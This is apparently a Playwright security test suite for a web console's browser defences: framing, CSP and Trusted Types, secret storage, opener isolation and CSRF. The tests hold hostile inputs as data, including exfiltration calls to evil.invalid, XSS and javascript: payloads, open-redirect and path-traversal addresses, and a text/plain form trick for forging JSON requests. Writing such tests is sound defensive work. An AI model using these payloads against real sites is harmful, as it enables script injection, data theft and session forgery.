import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';

import { noChromium, sharedChromium } from '#test/support/chromium.ts';
import { signInWith } from '#test/support/console.ts';
import { upload } from '#test/support/files.ts';
import { startTestServer, type TestAccount, type TestServer } from '#test/support/server.ts';

type Door = 'api' | 'operator';
const doors: readonly Door[] = ['api', 'operator'];

let server: TestServer;
let browser: Browser;
let account: TestAccount;
let evil: Server;
/** An address of another site: another host, which the browser finds on this machine too. */
let evilUrl: string;
beforeAll(async () => {
  [server, browser] = await Promise.all([startTestServer(), sharedChromium()]);
  account = await server.account('pro');
  await upload(server, account, { query: { name: 'logo', prefix: 'pictures' } });
  evil = createServer((_req, res) =>
    res.setHeader('Content-Type', 'text/html').end('<!doctype html><title>Evil</title>'),
  );
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://evil.localhost:${(evil.address() as AddressInfo).port}/`;
});
afterAll(async () => {
  await Promise.all([server?.stop(), browser?.close()]);
  evil?.close();
});

const keyOf = (door: Door) => (door === 'api' ? account.credential : server.operatorKey());

async function openSignedIn(door: Door = 'api', path = '/settings'): Promise<Page> {
  const context = await browser.newContext({ locale: 'en-GB' });
  onTestFinished(() => context.close());
  context.setDefaultTimeout(15_000);
  const page = await context.newPage();
  await page.goto(`${server.running.urls[door]}/console${path}`);
  await signInWith(page, await keyOf(door));
  return page;
}

/** Goes to every screen of the menu. */
async function visitAll(page: Page): Promise<void> {
  const links = page.getByRole('navigation').first().getByRole('link');
  for (const link of await links.all()) {
    await link.click();
    await page.locator('main h1').waitFor();
    await expect.poll(() => page.locator('.skeleton').count()).toBe(0);
  }
}

async function assetsOf(door: Door): Promise<string[]> {
  const html = await (await fetch(`${server.running.urls[door]}/console`)).text();
  return [...html.matchAll(/(?:src|href)="(\/console\/[^"]+)"/g)].map(([, path]) => path!);
}

describe.skipIf(noChromium)(`the console among other pages${noChromium ? ` (skipped: ${noChromium})` : ''}`, () => {
  it.each(doors)('is framed by no other page at the door %s: no screen, no asset, no refusal', async (door) => {
    const page = await openSignedIn(door);
    const base = server.running.urls[door];
    const paths = ['/console', '/console/', '/console/files', '/console/keys/x', '/console/config.json'];
    const missing = ['/console/none.js', '/console/assets/none.js'];
    const frames = [...paths, ...missing, ...(await assetsOf(door))];
    await page.goto(evilUrl);
    await page.evaluate(
      `for (const address of ${JSON.stringify(frames.map((path) => base + path))}) {
        const frame = document.createElement('iframe');
        frame.src = address;
        document.body.append(frame);
      }`,
    );
    const inner = () => page.frames().filter((frame) => frame !== page.mainFrame());
    await expect.poll(() => inner().filter((frame) => frame.url() === '').length).toBe(0);
    await page.waitForTimeout(500);
    expect(inner()).toHaveLength(frames.length);
    for (const frame of inner())
      expect(`${frame.url()} ${await frame.evaluate('document.title')}`).toMatch(/^chrome-error:/);
    for (const path of frames) {
      const answer = await fetch(base + path);
      await answer.body?.cancel();
      expect([path, answer.headers.get('Content-Security-Policy')]).toEqual([
        path,
        expect.stringContaining("frame-ancestors 'none'"),
      ]);
      expect([path, answer.headers.get('X-Content-Type-Options')]).toEqual([path, 'nosniff']);
    }
  });

  it.each(doors)('has its whole policy on every screen of the door %s, and the browser holds to it', async (door) => {
    const page = await openSignedIn(door);
    const lacking: string[] = [];
    const cached: string[] = [];
    page.on('response', (answer) => {
      const { pathname } = new URL(answer.url());
      const headers = answer.headers();
      const policy = headers['content-security-policy'] ?? '';
      const whole = [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
        "trusted-types 'none'",
        "require-trusted-types-for 'script'",
      ];
      if (pathname.startsWith('/console') && !whole.every((part) => policy.includes(part))) lacking.push(pathname);
      if (/^\/v[12]\//.test(pathname) && headers['cache-control'] !== 'no-store') cached.push(pathname);
    });
    await page.reload();
    await visitAll(page);
    expect(lacking).toEqual([]);
    expect(cached).toEqual([]);
    // The debugger lifts the policy for what it evaluates itself, so this runs later.
    const outcomes = await page.evaluate(`new Promise((resolve) => setTimeout(() => {
      const outcome = (run) => { try { run(); return 'done'; } catch (error) { return error.name; } };
      resolve([
        outcome(() => { document.body.innerHTML = '<p>x</p>'; }),
        outcome(() => { document.write('<p>x</p>'); }),
        outcome(() => { document.createElement('script').src = '/console/assets/x.js'; }),
        outcome(() => { trustedTypes.createPolicy('any', { createHTML: String }); }),
        outcome(() => { document.createElement('iframe').srcdoc = '<p>x</p>'; }),
        outcome(() => { new Function('return 1'); }),
      ]);
    }))`);
    expect(outcomes).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError', 'EvalError']);
    const blocked = await page.evaluate(`new Promise((resolve) => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
      fetch('https://evil.invalid/?leak').catch(() => {});
      new Image().src = 'https://evil.invalid/leak.png';
      const form = document.createElement('form');
      form.action = 'https://evil.invalid/'; document.body.append(form); form.submit();
      const base = document.createElement('base');
      base.href = 'https://evil.invalid/'; document.head.append(base);
      navigator.serviceWorker.register('/console/config.json').catch(() => {});
      setTimeout(() => resolve(seen.sort()), 1000);
    })`);
    // A worker needs an address of a policy of Trusted Types, and there is none.
    expect(blocked).toEqual(['base-uri', 'connect-src', 'form-action', 'img-src', 'require-trusted-types-for']);
    expect(new URL(page.url()).origin).toBe(server.running.urls[door]);
  });

  it.each(doors)('keeps no secret anywhere at the door %s', async (door) => {
    const context = await browser.newContext({ locale: 'en-GB' });
    onTestFinished(() => context.close());
    const page = await context.newPage();
    const addresses: string[] = [];
    const referrers: string[] = [];
    page.on('request', (request) => {
      addresses.push(request.url());
      const { referer } = request.headers();
      if (referer) referrers.push(referer);
    });
    const key = await keyOf(door);
    await page.goto(`${server.running.urls[door]}/console`);
    const signedIn = page.waitForResponse(
      (answer) => /\/(sessions|session)$/.test(answer.url()) && answer.request().method() === 'POST',
    );
    await signInWith(page, key);
    const token = ((await (await signedIn).json()) as any).response.csrf_token as string;
    expect(token.length).toBeGreaterThan(20);
    await visitAll(page);
    const kept = (await page.evaluate(`(async () => JSON.stringify([
      { ...localStorage }, { ...sessionStorage }, document.cookie, history.state,
      name, location.href, document.referrer,
      await indexedDB.databases(), await caches.keys(), (await navigator.serviceWorker.getRegistrations()).length,
      performance.getEntries().map(({ name }) => name), document.documentElement.outerHTML,
      [...document.querySelectorAll('input')].map(({ value }) => value),
    ]))()`)) as string;
    const cookie = (await context.cookies()).find(({ name }) => name.startsWith('__Host-'))!.value;
    for (const secret of [key, token, cookie]) {
      expect(kept).not.toContain(secret);
      expect(addresses.join('\n')).not.toContain(secret);
    }
    expect(JSON.parse(kept).slice(7, 10)).toEqual([[], [], 0]);
    expect(referrers).toEqual([]);
  });

  it('is out of reach of a page that opens it, and takes no messages', async () => {
    const page = await openSignedIn();
    await page.goto(evilUrl);
    const [opened] = await Promise.all([
      page.context().waitForEvent('page'),
      page.evaluate(`void (globalThis.opened = open(${JSON.stringify(`${server.running.urls.api}/console/keys`)}))`),
    ]);
    await opened.locator('main h1').waitFor();
    await expect.poll(() => opened.locator('.skeleton').count()).toBe(0);
    expect(await page.evaluate('globalThis.opened.closed')).toBe(true);
    expect(await opened.evaluate('opener')).toBe(null);
    const before = await opened.evaluate('document.body.innerHTML.length');
    await opened.evaluate(
      `postMessage({ type: 'sign-out', url: 'javascript:globalThis.ran=1', location: 'https://evil.invalid' }, '*')`,
    );
    await opened.waitForTimeout(200);
    expect(await opened.evaluate('[globalThis.ran ?? null, location.pathname]')).toEqual([null, '/console/keys']);
    expect(await opened.evaluate('document.body.innerHTML.length')).toBe(before);
    for (const link of await opened.locator('a[target]').all())
      expect(await link.getAttribute('rel')).toContain('noreferrer');
  });

  const addresses = [
    '/files?begins=%22%3E%3Cimg%20src%3Dx%20onerror%3DglobalThis.ran%3D1%3E&sort=%3Cscript%3E&kind=constructor' +
      '&order=__proto__',
    '/files/all/%3Cimg%20src%3Dx%20onerror%3DglobalThis.ran%3D1%3E',
    '/files/all/__proto__/constructor',
    '/__proto__',
    '/constructor',
    '/javascript%3Aran%3D1',
    '//evil.invalid/path',
    '/%2F%2Fevil',
    '/files/%5C%5Cevil.invalid',
    '/%',
    '/files/all/%E0%A4%A',
    '/settings?next=https://evil.invalid&redirect=//evil.invalid&return_to=javascript:globalThis.ran=1',
    '/settings#//evil.invalid',
    '/settings#<img src=x onerror=globalThis.ran=1>',
    '/deploys/..%2F..%2Fevil/x',
    '/shares?object=%3Cimg%20src%3Dx%20onerror%3DglobalThis.ran%3D1%3E&show=toString',
    '/trash?file=javascript:globalThis.ran=1',
    '/events/%3Cscript%3E',
    '/requests/..%2F..%2Fv1%2Faccount%2Fkeys',
  ];
  it('goes nowhere and runs nothing for any address', async () => {
    const page = await openSignedIn();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(String(error)));
    for (const address of addresses) {
      await page.goto(`${server.running.urls.api}/console${address}`);
      await page.locator('main h1').waitFor();
      await expect.poll(() => page.locator('.skeleton').count()).toBe(0);
      const { origin, pathname } = new URL(page.url());
      expect([address, origin, pathname.startsWith('/console')]).toEqual([address, server.running.urls.api, true]);
      expect([address, await page.evaluate('globalThis.ran ?? null')]).toEqual([address, null]);
      expect(await page.locator('main img[src="x"], main script').count()).toBe(0);
      expect([address, errors]).toEqual([address, []]);
    }
  });

  it.each(doors)('is signed in and out by no form of another site at the door %s', async (door) => {
    const page = await openSignedIn(door);
    const base = server.running.urls[door];
    const path = door === 'api' ? '/v1/sessions' : '/v2/operator/session';
    const session = door === 'api' ? '/v1/session' : path;
    const body = JSON.stringify(
      door === 'api' ? { api_key: (await server.account()).credential } : { operator_key: await keyOf('operator') },
    );
    const cookies = async () => JSON.stringify(await page.context().cookies());
    const before = await cookies();
    const foreign = await page.context().newPage();
    for (const from of [evilUrl, `${server.running.urls.files}/livez`, server.running.urls.public]) {
      await foreign.goto(from).catch(() => undefined);
      await foreign.evaluate(
        `(async () => {
          const [base, path, session, body] = ${JSON.stringify([base, path, session, body])};
          const send = (address, options) =>
            fetch(base + address, { credentials: 'include', ...options }).catch(() => undefined);
          const types =
            ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/json'];
          for (const type of types)
            for (const mode of ['no-cors', 'cors']) {
              const options = { method: 'POST', mode, headers: { 'Content-Type': type } };
              await send(path, { ...options, body });
              await send(session + '?_method=DELETE', { ...options, body: '_method=DELETE' });
            }
          for (const header of ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'])
            await send(session, { method: 'POST', headers: { [header]: 'DELETE' } });
          await send(session, { method: 'DELETE' });
          navigator.sendBeacon(base + path, body);
        })()`,
      );
    }
    // A form, which may go anywhere, with a body that is JSON.
    await foreign.goto(evilUrl);
    await foreign.evaluate(
      `(() => {
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', enctype: 'text/plain', action: ${JSON.stringify(base + path)} });
        const field = document.createElement('input');
        field.name = ${JSON.stringify(`${body.slice(0, -1)},"a":"`)}; field.value = '"}';
        form.append(field); document.body.append(form); form.submit();
      })()`,
    );
    await foreign.waitForURL(`${base}${path}`);
    expect(await foreign.evaluate('document.body.textContent')).toContain('CSRF_TOKEN_INVALID');
    expect(await cookies()).toBe(before);
    await page.reload();
    await page.locator('main h1').waitFor();
    expect(await page.getByRole('heading', { name: 'Sign in' }).count()).toBe(0);
  });
});
